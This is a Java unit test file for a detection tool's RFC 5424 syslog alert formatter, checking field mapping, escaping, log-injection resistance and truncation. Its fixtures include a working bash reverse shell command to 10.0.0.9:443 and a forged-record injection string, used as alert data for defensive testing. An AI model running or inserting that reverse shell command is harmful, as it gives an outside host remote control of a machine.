package org.fleetrec.detection.alert;

import org.fleetrec.model.EventDocument;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import static org.fleetrec.detection.alert.Fixtures.REVERSE_SHELL;
import static org.fleetrec.detection.alert.Fixtures.exec;
import static org.fleetrec.detection.alert.Fixtures.match;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class SyslogFormatTest {
    static final Instant T = Instant.parse("2026-03-04T10:07:30.123456789Z");
    static final String FORGED = "\"]\n<13>1 forged";
    private final SyslogFormat format = new SyslogFormat(SyslogConfig.facility("local4"), "ingest-1.example", "fleetrec@32473", 8192);

    static Alert alert(String commandLine) {
        return alert(exec("h1", "e1", T, commandLine));
    }

    static Alert alert(EventDocument event) {
        return Alert.open(match(REVERSE_SHELL, event, "agent-h1:42"), Duration.ofMinutes(10), T);
    }

    @Test
    void theHeaderAndStructuredDataCarryTheAlert() {
        Alert alert = alert("bash -i >& /dev/tcp/10.0.0.9/443 0>&1");
        Rfc5424.Message m = Rfc5424.parse(format.format(alert));
        assertEquals(20, m.facility());
        assertEquals(3, m.severity(), "high is Error");
        assertEquals("2026-03-04T10:07:30.123456Z", m.timestamp(), "at most six fraction digits");
        assertEquals("ingest-1.example", m.hostname());
        assertEquals("fleetrec", m.appName());
        assertEquals(String.valueOf(ProcessHandle.current().pid()), m.procId());
        assertEquals("9b1b6c3e55f04a1b8d6c6b7a9e2f0c11", m.msgId(), "a UUID without hyphens fits MSGID's 32");
        Map<String, String> sd = m.structuredData().get("fleetrec@32473");
        assertEquals(alert.id(), sd.get("alert_id"));
        assertEquals(REVERSE_SHELL.id(), sd.get("rule_id"));
        assertEquals("Bash reverse shell", sd.get("rule_name"));
        assertEquals("high", sd.get("level"));
        assertEquals("73", sd.get("severity"));
        assertEquals("1", sd.get("count"));
        assertEquals("h1", sd.get("host_id"));
        assertEquals("e1", sd.get("entity_id"));
        assertEquals("4242", sd.get("pid"));
        assertEquals("bash -i >& /dev/tcp/10.0.0.9/443 0>&1", sd.get("command_line"));
        assertEquals("sshd: alice [priv]", sd.get("parent_command_line"));
        assertEquals("alice", sd.get("audit_user"));
        assertEquals("T1059.004", sd.get("technique"));
        assertEquals("Execution,Command and Control", sd.get("tactic"));
        assertEquals("agent-h1:42", sd.get("event_id"));
        assertEquals(AlertText.summary(alert), m.msg());
    }

    @Test
    void quotesBackslashesAndBracketsAreEscapedAndComeBackAsTheyWere() {
        String line = "sh -c 'echo \"a\\b\" ] [x=\"y\"]' \\";
        byte[] bytes = format.format(alert(line));
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertTrue(text.contains("command_line=\"sh -c 'echo \\\"a\\\\b\\\" \\] [x=\\\"y\\\"\\]' \\\\\""), text);
        assertEquals(line, Rfc5424.parse(bytes).structuredData().get("fleetrec@32473").get("command_line"));
    }

    /** A command line that tries to end the structured data and start a second record stays one value of one record. */
    @Test
    void aForgedRecordInACommandLineStaysInsideItsValue() {
        byte[] bytes = format.format(alert(FORGED));
        for (byte b : bytes) assertFalse(b < 0x20 && b >= 0 || b == 0x7f, "no control byte in the message: " + b);
        Rfc5424.Message m = Rfc5424.parse(bytes);
        assertEquals(1, m.structuredData().size());
        assertEquals("\"]\\x0a<13>1 forged", m.structuredData().get("fleetrec@32473").get("command_line"));
        assertFalse(m.msg().contains("\n"));
    }

    @Test
    void everyControlCharacterAndLineSeparatorIsShownNotActedOn() {
        String nasty = "a\r\nb\u0000c\u001b[31md\u0085e\u2028f\u2029g\u007f";
        Rfc5424.Message m = Rfc5424.parse(format.format(alert(exec("h1", "e1", T, nasty).put("user.name", nasty))));
        assertEquals("a\\x0d\\x0ab\\x00c\\x1b[31md\\x85e\\u2028f\\u2029g\\x7f", m.structuredData().get("fleetrec@32473").get("command_line"));
        assertTrue(m.msg().endsWith("by a\\x0d\\x0ab\\x00c\\x1b[31md\\x85e\\u2028f\\u2029g\\x7f"), m.msg());
    }

    @Test
    void aUtf8MessageStartsWithABomAndAnAsciiOneDoesNot() {
        byte[] ascii = format.format(alert("ls"));
        assertFalse(new String(ascii, StandardCharsets.ISO_8859_1).contains("\u00ef\u00bb\u00bf"));
        Alert unicode = alert(exec("h1", "e1", T, "ls").put("user.name", "jürgen"));
        byte[] bytes = format.format(unicode);
        String latin1 = new String(bytes, StandardCharsets.ISO_8859_1);
        assertTrue(latin1.contains("] \u00ef\u00bb\u00bf"), "BOM right after the structured data");
        assertTrue(Rfc5424.parse(bytes).msg().endsWith("by jürgen"));
    }

    @Test
    void longValuesAreCutUntilTheMessageFitsAndTheCoreFieldsStay() {
        String huge = "A".repeat(7000) + "\u00e9".repeat(3000);
        EventDocument event = exec("h1", "e1", T, huge).put("process.parent.command_line", huge).put("file.path", huge)
                .put("process.executable", huge);
        for (int max : List.of(1024, 2048, 8192)) {
            byte[] bytes = new SyslogFormat(1, "h".repeat(255), "fleetrec@32473", max).format(alert(event));
            assertTrue(bytes.length <= max, bytes.length + " > " + max);
            Rfc5424.Message m = Rfc5424.parse(bytes);
            Map<String, String> sd = m.structuredData().get("fleetrec@32473");
            for (String core : List.of("alert_id", "rule_id", "level", "count", "host_id", "event_id")) {
                assertTrue(sd.containsKey(core), max + ": " + core + " in " + sd.keySet());
            }
        }
        Map<String, String> roomy = Rfc5424.parse(new SyslogFormat(1, "h", "fleetrec@32473", 8192).format(alert(event)))
                .structuredData().get("fleetrec@32473");
        assertEquals(1024, roomy.get("command_line").length(), "the longest a value gets");
        assertTrue(roomy.get("command_line").endsWith("…"));
    }

    @Test
    void msgIdAndHostnameArePrintableAscii() {
        assertEquals("abc", SyslogFormat.msgId("abc"));
        assertEquals("withspacesandnewline", SyslogFormat.msgId("with spaces and\nnewline"));
        assertEquals(32, SyslogFormat.msgId("x".repeat(40)).length());
        assertEquals("-", SyslogFormat.printable(" \n", 255));
        Rfc5424.Message m = Rfc5424.parse(new SyslogFormat(1, "bad host\nname", "fleetrec@32473", 2048).format(alert("ls")));
        assertEquals("badhostname", m.hostname());
    }
}
